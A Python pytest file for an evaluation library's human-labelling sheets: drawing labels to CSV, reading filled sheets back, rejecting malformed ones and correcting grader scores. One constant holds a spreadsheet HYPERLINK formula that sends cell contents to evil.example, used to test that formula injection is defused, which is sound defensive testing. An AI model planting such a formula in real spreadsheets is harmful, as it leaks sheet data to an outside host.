"""Labels of people: drawn, written to a sheet, taken back, and what they do to scores."""

import csv
import json
from itertools import pairwise

import numpy as np
import pytest
from made_gradings import PERFECT, frames_of, graders, grading, pool, solo
from made_runs import write_run

import fusion_eval as fe
from fusion_eval import frames, labelling, report
from fusion_eval.core.sampling import heavy
from fusion_eval.errors import InputError, TableError
from fusion_eval.labelling.sheet import defused
from fusion_eval.store import write_lines

pytestmark = pytest.mark.usefixtures("no_figures")

NAMES = ["recipe-one", "recipe-two"]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"more")'


@pytest.fixture(scope="module")
def made():
    """Two recipes on 100 rubrics by a 92/90 grader, with what a perfect one would say."""
    world = graders({"strix/owl": grading(0.92, 0.90), "raptor/condor": PERFECT})
    recipes = [solo(NAMES[0], "wader/heron"), solo(NAMES[1], "meadow/lark")]
    return pool(world, recipes, ["strix/owl", "raptor/condor"], 1)


@pytest.fixture
def run(made, tmp_path):
    """The same as a run on disk; the first answers begin with a formula."""
    trials, verdicts = frames_of(made, NAMES, ["strix/owl"])
    values = np.clip(made.raw("strix/owl"), 0, 1)[:, :, 0]
    rows = trials.to_dict("records")
    for k, row in enumerate(rows):
        row |= {"score": float(values[k % 2, k // 2]), "answer_hash": f"h{k}"}
    done = write_run(tmp_path / "results" / "r1", rows, verdicts=verdicts.to_dict("records"))
    answers = [
        {name: r[name] for name in ("task", "recipe", "repeat")}
        | {"answer": f"{FORMULA} {k}" if k < 9 else f"Text {k}. " * 300}
        for k, r in enumerate(rows)
    ]
    write_lines(done.path / "answers.jsonl", answers)
    return done


def _sheet(run):
    with (run.path / "labels" / "sheet.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def _filled(run, path, word, delimiter=",", keep=lambda k: True, **more):
    rows = _sheet(run)
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]), delimiter=delimiter)
        writer.writeheader()
        writer.writerows(row | {"met": word(row)} | more for k, row in enumerate(rows) if keep(k))
    return path


def _truth(made, run):
    """label -> what a perfect grader says."""
    place = {
        t.hash: (k, {c.id: i for i, c in enumerate(t.criteria)}) for k, t in enumerate(made.tasks)
    }
    found = {}
    for row in frames.labels(run).to_dict("records"):
        k, criteria = place[row["task_hash"]]
        value = made.values["raptor/condor"][k][
            NAMES.index(row["recipe"]), 0, criteria[row["criterion"]]
        ]
        found[row["label"]] = "met" if value else "unmet"
    return found


def test_labels_go_out_and_come_back_and_correct_the_scores(made, run, tmp_path):
    """The whole way, on paper as a user goes it; the grader is off by points, people are not."""
    drawn = labelling.draw(run, NAMES, labelling.texts(run), seed=1)
    truth = _truth(made, run)
    sheet = _filled(run, tmp_path / "filled.csv", lambda row: truth[row["label"]], ";")
    taken = labelling.take(run, sheet)
    found = report.grader_report(run)["labels"]

    assert drawn.verdicts == taken.labels == taken.of == found["given"] >= 600
    rates = {(r["sign"], r["measure"]): r for r in found["error_rates"]}
    assert rates["positive", "sensitivity"]["low"] < 0.92 < rates["positive", "sensitivity"]["high"]
    assert rates["positive", "specificity"]["low"] < 0.90 < rates["positive", "specificity"]["high"]
    assert rates["negative", "specificity"]["low"] < 0.90 < rates["negative", "specificity"]["high"]
    exact = np.clip(made.raw("raptor/condor"), 0, 1)[:, :, 0].mean(axis=1)
    for row, known in zip(found["scores"], exact, strict=True):
        assert row["corrected_low"] < known < row["corrected_high"]
        assert row["n"] == 100
    gap = found["differences"][0]
    assert gap["corrected_low"] < exact[0] - exact[1] < gap["corrected_high"]
    text = (report.write(run)["report.md"]).read_text("utf-8")
    assert "score by the grader | corrected by labels" in text
    assert "Can the grader be trusted?" in text


def test_the_sheet_shows_no_recipe_no_weight_and_no_verdict_and_groups_tasks(run):
    """Who sees that the grader said met, or whose answer it is, no longer judges the answer."""
    labelling.draw(run, NAMES, labelling.texts(run))
    rows = _sheet(run)
    text = (run.path / "labels" / "sheet.csv").read_text("utf-8-sig")

    assert not {"recipe", "weight", "verdict", "probability"} & set(rows[0])
    assert "recipe-" not in text
    tasks = [row["task"] for row in rows]
    assert sum(a != b for a, b in pairwise(tasks)) == 99
    assert tasks != sorted(tasks)
    assert {row["met"] for row in rows} == {""}


def test_an_answer_cannot_become_a_formula_in_a_spreadsheet(run):
    """One click on a cell would send the sheet to whoever wrote the model's training data."""
    labelling.draw(run, NAMES, labelling.texts(run))
    cells = [cell for row in _sheet(run) for cell in row.values()]

    assert any(FORMULA in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for active in ("=1", "+1", "-1", "@a", "\t=1", "\r=1", "  =1", "＝1"):
        assert defused(active).startswith("'")
    assert defused("a = b") == "a = b"
    assert len(defused("x" * 99_999)) < 32_767


def test_long_answers_stand_whole_in_a_file_beside_the_sheet(run):
    """An excerpt would be labelled unmet where the point comes later."""
    labelling.draw(run, NAMES, labelling.texts(run))
    long = next(row for row in _sheet(run) if row["answer"].startswith("Text"))

    whole = (run.path / "labels" / long["answer_file"]).read_text("utf-8")
    assert len(whole) > len(long["answer"])
    assert whole.startswith(long["answer"][:1000])


def test_heavy_criteria_are_labelled_all_and_the_same_criteria_for_every_recipe(made, run):
    """Differences are compared on equal terms only if both recipes are read on the same lines."""
    labelling.draw(run, NAMES, labelling.texts(run), per_task=2, seed=5)
    drawn = frames.labels(run)
    per = drawn.groupby(["task_hash", "recipe"])["criterion"].apply(set).unstack()

    assert (per[NAMES[0]] == per[NAMES[1]]).all()
    for task in made.tasks:
        always = heavy({c.id: c.weight for c in task.criteria})
        assert always <= per.loc[task.hash, NAMES[1]]
        assert len(per.loc[task.hash, NAMES[1]]) == 2 + len(always)


def test_a_sheet_with_mistakes_is_refused_with_all_lines_and_changes_nothing(run, tmp_path):
    """Somebody typed for hours; half of it taken and half lost is the worst outcome."""
    labelling.draw(run, NAMES, labelling.texts(run), tasks=2)
    rows = _sheet(run)
    words = iter(["met", "perhaps", "unmet", *["met"] * 99])
    sheet = _filled(run, tmp_path / "s.csv", lambda row: next(words))
    more = f"Lffff,t,,,,,,met,,\n{rows[0]['label']},,,,,,,met,,\n"
    sheet.write_text(sheet.read_text("utf-8") + more, "utf-8")

    with pytest.raises(TableError) as caught:
        labelling.take(run, sheet)
    assert len(caught.value.problems) == 3
    assert "'perhaps'" in caught.value.problems[0]
    assert frames.labels(run)["value"].isna().all()
    (tmp_path / "no.csv").write_text("a,b\n1,2\n", "utf-8")
    with pytest.raises(TableError, match="no column 'label' and no column 'met'"):
        labelling.take(run, tmp_path / "no.csv")


def test_half_a_sheet_unsure_cells_and_two_people_are_taken_as_what_they_are(run, tmp_path):
    """Empty is not unmet, and a second opinion does not overwrite the first."""
    labelling.draw(run, NAMES, labelling.texts(run))
    some = {"keep": lambda k: k < 60}
    first = _filled(run, tmp_path / "1.csv", lambda row: "met", **some, person="Ann")
    words = iter(["?", "", *["unmet"] * 999])
    second = _filled(run, tmp_path / "2.csv", lambda row: next(words), **some, person="Bo")
    labelling.take(run, first)
    taken = labelling.take(run, second)
    found = report.grader_report(run)["labels"]

    assert (taken.labels, taken.unsure, taken.empty, taken.people) == (58, 1, 1, ("Bo",))
    assert found["people"] == ["Ann", "Bo"]
    assert found["given"] == 60
    raw = next(r for r in found["between_people"] if r["measure"] == "raw" and r["sign"] == "all")
    assert raw["value"] == 0
    assert all("labels; a correction needs 100" in row["note"] for row in found["scores"])
    assert all(row["corrected"] is None for row in found["scores"])


def test_labels_of_some_tasks_correct_by_those_and_count_them(made, run, tmp_path):
    """Labels on 60 of 100 tasks are an estimate for all 100, wider, and no less right."""
    labelling.draw(run, NAMES, labelling.texts(run), tasks=60)
    truth = _truth(made, run)
    labelling.take(run, _filled(run, tmp_path / "f.csv", lambda row: truth[row["label"]]))
    row = report.grader_report(run)["labels"]["scores"][0]

    assert row["n"] == 60
    exact = np.clip(made.raw("raptor/condor"), 0, 1)[0, :, 0].mean()
    assert row["corrected_low"] < exact < row["corrected_high"]


def test_a_second_draw_is_refused_unless_the_first_is_thrown_away(run):
    """What people said belongs to the draw that asked them."""
    labelling.draw(run, NAMES, labelling.texts(run))
    with pytest.raises(InputError, match="--again"):
        labelling.draw(run, NAMES, labelling.texts(run))
    assert labelling.draw(run, NAMES[1:], labelling.texts(run), again=True).recipes == (
        "recipe-two",
    )
    with pytest.raises(InputError, match="no recipe x"):
        labelling.draw(run, ["x"], labelling.texts(run), again=True)
    assert json.loads((run.path / "labels" / "design.json").read_text())["recipes"] == NAMES[1:]


def test_the_public_names_lead_here(run):
    """What the documentation calls must exist under that name."""
    assert fe.labels(run) is None
    assert set(fe.agreement(fe.verdicts(run))["between"]) == set()
    assert fe.grader_report(run)["labels"] is None
